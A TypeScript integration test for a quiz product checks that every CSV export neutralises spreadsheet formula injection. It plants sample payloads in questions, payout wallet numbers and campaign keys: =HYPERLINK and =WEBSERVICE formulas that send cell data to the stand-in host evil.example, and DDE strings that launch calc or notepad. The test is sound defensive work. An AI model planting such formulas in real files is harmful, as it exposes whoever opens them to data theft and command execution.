/**
 * Part 8, CSV exports. An outside attack planted spreadsheet formulas in the question bank:
 * the export wrote `=HYPERLINK(...)` as it was, to run on the machine of the operator who
 * opened the file. Here formulas beginning with every character a spreadsheet runs (`=`, `+`,
 * `-`, `@`, tab, carriage return) go in wherever text reaches a CSV: questions through the
 * console's CSV and JSON import and its editor, wallet numbers of pending payouts (no route
 * stores such a number, so they are written into the table, as a compromised or mistaken row
 * would be), and campaign keys through the campaign page's route. Then every CSV the product
 * writes is taken: the bank's export, the payouts' export, a batch's file again, the re-export
 * of failed payouts, and the `payouts:export` command. What must hold: no cell begins with a
 * formula character unless it is only a number; every planted formula is there, marked as
 * text; the exported bank imports back unchanged; each export left its audit row.
 */
import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { addDays, dhakaDate } from '@khelahobe/contracts/dhaka-time'
import { parse as parseCsv } from 'csv-parse/sync'
import pg from 'pg'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { openPostgres } from '../apps/api/src/db/client.ts'
import { payouts, prizeAwards, users } from '../apps/api/src/db/schema.ts'
import { createOperator, enrolAndLogInByApi } from '../e2e/support/console.ts'
import { createDatabase } from './support/cluster.ts'
import { dataOf, type HttpClient, httpClient, type RawResponse } from './support/http.ts'
import { msisdnFor } from './support/players.ts'
import { answerLine, clip, figure, folded } from './support/report.ts'
import { type ApiServer, startServer } from './support/server.ts'

const root = fileURLToPath(new URL('..', import.meta.url))

/** Every character a spreadsheet may take as the start of a formula (OWASP's list). */
const formulaStarts = ['=', '+', '-', '@', '\t', '\r'] as const

/** A formula beginning with `start`, the kind an attacker plants; `n` keeps each one apart. */
function formula(start: (typeof formulaStarts)[number], n: number): string {
  switch (start) {
    case '=':
      return `=HYPERLINK("http://evil.example/${n}?d="&A1,"উত্তর দেখুন")`
    case '+':
      return `+cmd|' /C calc'!A${n}`
    case '-':
      return `-2+3+cmd|' /C notepad'!A${n}`
    case '@':
      return `@SUM(${n}+1)*cmd|' /C calc'!A0`
    case '\t':
      return `\t=${n}+1`
    case '\r':
      return `\r=${n}+1`
  }
}

/** A cell a spreadsheet would run: begins with a formula character and is not only a number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell)

/** A CSV as an attacker writes it: quoted only where CSV itself needs it, nothing neutralised. */
const rawCsv = (rows: string[][]) =>
  `${rows.map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',')).join('\n')}\n`

const password = 'correct horse battery staple'

let server: ApiServer
let databaseUrl: string
let admin: pg.Client
let client: HttpClient
const workDir = mkdtempSync(join(tmpdir(), 'khelahobe-csv-'))

afterAll(async () => {
  client?.close()
  await admin?.end()
  await server?.stop()
  rmSync(workDir, { recursive: true, force: true })
})

/** Operators of each role the exports need, logged in over HTTP with their second factor. */
const cookies: Record<'editor' | 'finance', string> = { editor: '', finance: '' }

beforeAll(async () => {
  databaseUrl = await createDatabase(inject('faultsClusterPort'), 'faults_csv')
  server = await startServer({ databaseUrl })
  client = httpClient(server.url)
  admin = new pg.Client({ connectionString: databaseUrl })
  await admin.connect()
  for (const role of ['editor', 'finance'] as const) {
    const email = `csv-${role}@example.com`
    const token = await createOperator({ databaseUrl }, email, role)
    cookies[role] = (await enrolAndLogInByApi(server.url, { token, email, password })).cookie
  }
})

const consoleGet = (role: keyof typeof cookies, path: string) => client.get(path, { cookie: cookies[role] })
const consolePost = (role: keyof typeof cookies, path: string, payload: unknown) =>
  client.post(path, payload, { cookie: cookies[role] })

/** The cells of a CSV as a spreadsheet reads them. */
const cellsOf = (csv: string) => (parseCsv(csv, { relax_column_count: true }) as string[][]).flat()

/** Wallet numbers of pending payouts of `period`, one per formula, written as a winners job would. */
async function plantPayouts(period: string, rankFrom: number) {
  const database = openPostgres(databaseUrl, { max: 1 })
  const planted: { payoutId: number; wallet: string }[] = []
  try {
    for (const [i, start] of formulaStarts.entries()) {
      const wallet = formula(start, rankFrom + i)
      const [user] = await database.db
        .insert(users)
        .values({ msisdn: msisdnFor('013', rankFrom + i) })
        .returning({ id: users.id })
      const [award] = await database.db
        .insert(prizeAwards)
        .values({
          competition: 'daily_quiz',
          period,
          rank: rankFrom + i,
          userId: user?.id ?? 0,
          payoutMsisdn: wallet,
          prize: 'cash',
          amountTaka: 10,
          score: 20,
          elapsedMs: 1000,
        })
        .returning({ id: prizeAwards.id })
      const [payout] = await database.db
        .insert(payouts)
        .values({ awardId: award?.id ?? 0, msisdn: wallet, amountTaka: 10, prize: 'cash' })
        .returning({ id: payouts.id })
      planted.push({ payoutId: payout?.id ?? 0, wallet })
    }
  } finally {
    await database.close()
  }
  return planted
}

test('every CSV the product writes marks planted formulas as text and reads back unchanged', async () => {
  const findings: string[] = []
  const exportsChecked: string[] = []
  let cellsChecked = 0
  /** Checks one CSV: no runnable cell, and each planted text present with its mark. */
  const check = (name: string, csv: string, planted: string[]) => {
    const cells = cellsOf(csv)
    cellsChecked += cells.length
    exportsChecked.push(`${name} (${cells.length} cells)`)
    for (const cell of cells.filter(runnable))
      findings.push(`${name}: a cell a spreadsheet runs: ${clip(cell, 120)}`)
    for (const text of planted)
      if (!cells.includes(`'${text}`))
        findings.push(`${name}: the planted ${clip(text, 80)} is not there as text`)
  }
  const ok = (response: RawResponse, what: string) => {
    if (response.status !== 200) throw new Error(`${what}: ${answerLine(response)}`)
    return response
  }

  // ---- Questions: a CSV import, a JSON import and the editor, every formula character.
  const question = (kind: string, start: (typeof formulaStarts)[number], n: number) =>
    `${formula(start, n)} ${kind} প্রশ্ন ${n}?`
  const csvRows = formulaStarts.map((start, n) => [
    'general-knowledge',
    question('csv', start, n),
    formula(start, 100 + n),
    `${start}${n}`,
    `${start}A${n}`,
    'option1',
  ])
  const csvImport = await consolePost('editor', '/api/console/questions/import', {
    format: 'csv',
    text: rawCsv([['category', 'question', 'option1', 'option2', 'option3', 'answer'], ...csvRows]),
  })
  expect(dataOf(csvImport, 'the CSV import'), csvImport.body).toEqual({
    imported: formulaStarts.length,
    problems: [],
  })
  const jsonImport = await consolePost('editor', '/api/console/questions/import', {
    format: 'json',
    text: JSON.stringify(
      formulaStarts.map((start, n) => ({
        category: 'sports',
        question: question('json', start, n),
        option1: formula(start, 200 + n),
        option2: `${start}B${n}`,
        option3: 'সাধারণ',
        answer: 'option2',
      })),
    ),
  })
  expect(dataOf(jsonImport, 'the JSON import')).toEqual({ imported: formulaStarts.length, problems: [] })
  const [target] = dataOf<{ items: { id: number }[] }>(
    await consoleGet('editor', '/api/console/questions?category=world'),
    'the question list',
  ).items
  const edited = {
    question: '=WEBSERVICE("http://evil.example/?"&A2) কোনটি?',
    option1: '@A1',
    option2: '+A2',
    option3: '-A3',
    correctOption: 1,
    difficulty: 'easy',
  }
  ok(
    await client.send({
      method: 'PUT',
      path: `/api/console/questions/${target?.id}`,
      headers: { cookie: cookies.editor, 'content-type': 'application/json' },
      body: JSON.stringify(edited),
    }),
    'the question edit',
  )
  // The bank keeps texts trimmed: a tab or a carriage return in front goes, the formula stays.
  const plantedQuestions = [
    ...csvRows.flatMap((row) => row.slice(1, 5)),
    ...formulaStarts.flatMap((start, n) => [
      question('json', start, n),
      formula(start, 200 + n),
      `${start}B${n}`,
    ]),
    edited.question,
    edited.option1,
    edited.option2,
    edited.option3,
  ]
    .map((text) => text.trim())
    .filter(runnable)

  const bank = ok(await consoleGet('editor', '/api/console/questions/export?format=csv'), 'the bank export')
  check('questions export', bank.body, plantedQuestions)
  // The exported bank, imported back through the console, is the same bank.
  const reimport = await consolePost('editor', '/api/console/questions/import', {
    format: 'csv',
    text: bank.body,
  })
  const bankRows = (parseCsv(bank.body) as string[][]).length - 1
  expect(dataOf(reimport, 'the re-import')).toEqual({ imported: bankRows, problems: [] })
  const again = ok(
    await consoleGet('editor', '/api/console/questions/export?format=csv'),
    'the second export',
  )
  if (again.body !== bank.body)
    findings.push('questions: the exported bank imported back is not the same bank')

  // ---- Payouts: the console's export, a batch's file again, the re-export, the command line.
  const consolePlanted = await plantPayouts('2020-01-06', 1)
  const exported = dataOf<{ batch: string; csv: string; count: number }>(
    await consolePost('finance', '/api/console/payouts/export', { from: '2020-01-06', to: '2020-01-06' }),
    'the payouts export',
  )
  expect(exported.count).toBe(formulaStarts.length)
  const wallets = consolePlanted.map((p) => p.wallet).filter(runnable)
  check('payouts export', exported.csv, wallets)
  const batchFile = ok(
    await consoleGet('finance', `/api/console/payouts/batches/${exported.batch}/file`),
    'the batch file',
  )
  check('payouts batch file', batchFile.body, wallets)
  const failedIds = consolePlanted.map((p) => p.payoutId)
  const reconciled = dataOf<{ applied: boolean; failed: number }>(
    await consolePost('finance', '/api/console/payouts/reconcile', {
      batch: exported.batch,
      text: `payout_id,status\n${failedIds.map((id) => `${id},failed`).join('\n')}\n`,
    }),
    'the reconcile',
  )
  expect(reconciled).toMatchObject({ applied: true, failed: failedIds.length })
  const reexported = dataOf<{ csv: string }>(
    await consolePost('finance', '/api/console/payouts/reexport', { payoutIds: failedIds }),
    'the re-export',
  )
  check('payouts re-export', reexported.csv, wallets)

  const cliPlanted = await plantPayouts('2020-01-07', 101)
  const cliFile = join(workDir, 'payouts-cli.csv')
  await promisify(execFile)(
    process.execPath,
    [
      '--import',
      'tsx',
      'apps/api/src/cli/payouts-export.ts',
      '--from',
      '2020-01-07',
      '--to',
      '2020-01-07',
      '--out',
      cliFile,
    ],
    { cwd: root, env: { ...process.env, DATABASE_URL: databaseUrl, LOG_LEVEL: 'warn' } },
  )
  check(
    'payouts:export command',
    readFileSync(cliFile, 'utf8'),
    cliPlanted.map((p) => p.wallet).filter(runnable),
  )

  // ---- Campaign keys: they reach the campaigns' funnel, which no CSV carries (only JSON and a
  // terminal table); a key with a control character in it is refused at the door.
  const keyAnswers: string[] = []
  for (const [i, start] of formulaStarts.entries()) {
    const answer = await client.post('/api/campaign/subscribe', {
      mobileNo: msisdnFor('014', i),
      campaignKey: formula(start, 300 + i).slice(0, 64),
    })
    keyAnswers.push(`${JSON.stringify(start)} ${answer.status}`)
    const expected = start === '\t' || start === '\r' ? 400 : 200
    if (answer.status !== expected)
      findings.push(`campaign key ${JSON.stringify(start)}: ${answerLine(answer)}`)
  }
  const today = dhakaDate(new Date())
  const funnel = dataOf<{ campaigns: { campaignKey: string; requests: number }[] }>(
    await consoleGet('finance', `/api/console/campaigns?from=${addDays(today, -1)}&to=${addDays(today, 1)}`),
    'the campaigns funnel',
  )
  const keysInReport = funnel.campaigns.filter((c) => runnable(c.campaignKey)).length

  // ---- Each export left its audit row: the bank's two downloads, the console's payouts export
  // and its batch file again, the re-export, and the command's export (no operator).
  const audited = await admin.query<{ action: string; operator_id: number | null; n: string }>(
    `select action, operator_id, count(*) as n from audit_log
      where action in ('question.export', 'payouts.export', 'payouts.download', 'payouts.reexport')
      group by action, operator_id order by action, operator_id nulls first`,
  )
  const auditLines = audited.rows.map(
    (row) => `${row.action} by ${row.operator_id === null ? 'the command line' : 'an operator'} × ${row.n}`,
  )
  expect(auditLines).toEqual([
    'payouts.download by an operator × 1',
    'payouts.export by the command line × 1',
    'payouts.export by an operator × 1',
    'payouts.reexport by an operator × 1',
    'question.export by an operator × 2',
  ])

  figure(`csv exports checked: ${exportsChecked.join(', ')}; ${cellsChecked} cells`)
  figure(
    `csv planted: ${plantedQuestions.length} question texts, ${consolePlanted.length + cliPlanted.length} wallet numbers, ` +
      `campaign keys answered ${keyAnswers.join(', ')} (in the campaigns funnel, JSON only: ${keysInReport})`,
  )
  figure(
    `csv question bank round trip: ${bankRows} questions exported, imported back, exported again identical: ${again.body === bank.body}`,
  )
  figure(`csv audit rows: ${auditLines.join(', ')}`)
  figure(`csv findings: ${findings.length}`)
  expect(keysInReport).toBe(4)
  expect(findings, folded(findings)).toEqual([])
}, 300_000)
